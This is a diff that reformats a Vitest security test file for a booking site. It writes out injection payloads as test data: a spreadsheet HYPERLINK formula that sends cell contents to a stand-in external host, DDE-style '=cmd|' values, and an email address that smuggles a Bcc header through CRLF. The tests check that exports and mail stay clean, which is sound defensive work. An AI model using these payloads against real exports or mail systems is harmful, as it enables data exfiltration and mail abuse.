@@ -1,5 +1,12 @@
 import { afterEach, beforeAll, expect, test, vi } from 'vitest';
-import { bookings, contactMessages, outbox, settings, subscribers, transferRequests } from '#core/db/schema.ts';
+import {
+  bookings,
+  contactMessages,
+  outbox,
+  settings,
+  subscribers,
+  transferRequests,
+} from '#core/db/schema.ts';
 import { deliverDue } from '#core/mail/delivery.ts';
 import { anAdmin } from '../../test/admin.ts';
 import { aTrip, aTripType, db } from '../../test/builders.ts';
@@ -29,7 +36,13 @@ const SQL = [
   '\\',
   '"',
 ];
-const LISTS = ['/api/search', '/api/trips', '/api/destinations', '/api/blog/posts', '/api/transfers/places'];
+const LISTS = [
+  '/api/search',
+  '/api/trips',
+  '/api/destinations',
+  '/api/blog/posts',
+  '/api/transfers/places',
+];
 const ADMIN_LISTS = [
   '/trips',
   '/destinations',
@@ -73,12 +86,28 @@ const FORMULA = '=HYPERLINK("https://elsewhere.example?"&A1,"x")';
 test('no export contains a formula from user input', async () => {
   await db
     .insert(contactMessages)
-    .values({ name: FORMULA, email: '+cmd@example.com', message: `-2+3${FORMULA}`, language: 'en', source: '@SUM(1)', digest: 'd' });
+    .values({
+      name: FORMULA,
+      email: '+cmd@example.com',
+      message: `-2+3${FORMULA}`,
+      language: 'en',
+      source: '@SUM(1)',
+      digest: 'd',
+    });
   await db
     .insert(subscribers)
-    .values({ email: '=cmd|x@example.com', language: 'en', consentSource: '\t=1+1', requestedAt: '2026-01-01T00:00:00.000Z' });
+    .values({
+      email: '=cmd|x@example.com',
+      language: 'en',
+      consentSource: '\t=1+1',
+      requestedAt: '2026-01-01T00:00:00.000Z',
+    });
   await aTripRequest(1, { contactName: FORMULA, notes: ' =1+1' });
-  await aTransferRequest({ contact: { name: '=SUM(1+1)', email: 'ada@example.com' }, signName: '+1', note: FORMULA });
+  await aTransferRequest({
+    contact: { name: '=SUM(1+1)', email: 'ada@example.com' },
+    signName: '+1',
+    note: FORMULA,
+  });
   const from = `${Number(SUMMER_DAY.slice(0, 4))}-06-01`;
   for (const path of [
     '/messages/export.csv',
@@ -87,7 +116,10 @@ test('no export contains a formula from user input', async () => {
     `/transfers/export.csv?from=${from}&to=${SUMMER_DAY}`,
   ]) {
     const response = await admin(path);
-    expect([response.status, response.headers.get('Content-Disposition')?.split(';')[0]], path).toEqual([200, 'attachment']);
+    expect(
+      [response.status, response.headers.get('Content-Disposition')?.split(';')[0]],
+      path,
+    ).toEqual([200, 'attachment']);
     const text = await response.text();
     expect(text.split('\r\n').length, path).toBeGreaterThan(2);
     // A cell begins at a quote after a comma or at the beginning of a line.
@@ -109,10 +141,17 @@ test('what a guest types adds no line to a mail’s head, on its way to the prov
       language: 'en',
       privacyAccepted: true,
     });
-  expect([(await request({ name })).status, (await request({ name: 'Eve' })).status]).toEqual([422, 201]);
+  expect([(await request({ name })).status, (await request({ name: 'Eve' })).status]).toEqual([
+    422, 201,
+  ]);
   const heads: Record<string, unknown>[] = [];
   vi.spyOn(globalThis, 'fetch').mockImplementation(async (_url, init) => {
-    const { from, to, reply_to: replyTo, subject } = JSON.parse(String(init?.body)) as Record<string, unknown>;
+    const {
+      from,
+      to,
+      reply_to: replyTo,
+      subject,
+    } = JSON.parse(String(init?.body)) as Record<string, unknown>;
     // Redirects are not followed.
     expect(init?.redirect).toBe('manual');
     heads.push({ from, to, replyTo, subject });
@@ -123,16 +162,25 @@ test('what a guest types adds no line to a mail’s head, on its way to the prov
     .values({ key: 'mail', value: { driver: 'http', senderAddress: 'firm@example.com' } })
     .onConflictDoNothing();
   // The local default keeps mails; here they are sent.
-  await db.update(outbox).set({ status: 'pending', attempts: 0, nextAttemptAt: '2026-01-01T00:00:00.000Z' });
+  await db
+    .update(outbox)
+    .set({ status: 'pending', attempts: 0, nextAttemptAt: '2026-01-01T00:00:00.000Z' });
   await deliverDue({ ...bindings, MAIL_ENDPOINT: 'https://provider.example/emails' }, db);
   expect(heads.length).toBeGreaterThan(2);
   for (const head of heads) expect(JSON.stringify(head)).not.toMatch(/\\r|\\n|\\u2028/);
-  for (const email of ['eve@example.com\r\nBcc: x@elsewhere.example', 'a@b.example,c@d.example', '"a b"@example.com']) {
+  for (const email of [
+    'eve@example.com\r\nBcc: x@elsewhere.example',
+    'a@b.example,c@d.example',
+    '"a b"@example.com',
+  ]) {
     const response = await postJson('/api/subscribe', { email });
-    expect([response.status, (await db.select().from(subscribers)).some((one) => /elsewhere|,/.test(one.email))], email).toEqual([
-      422,
-      false,
-    ]);
+    expect(
+      [
+        response.status,
+        (await db.select().from(subscribers)).some((one) => /elsewhere|,/.test(one.email)),
+      ],
+      email,
+    ).toEqual([422, false]);
   }
   expect(await db.select().from(transferRequests)).not.toEqual([]);
 });
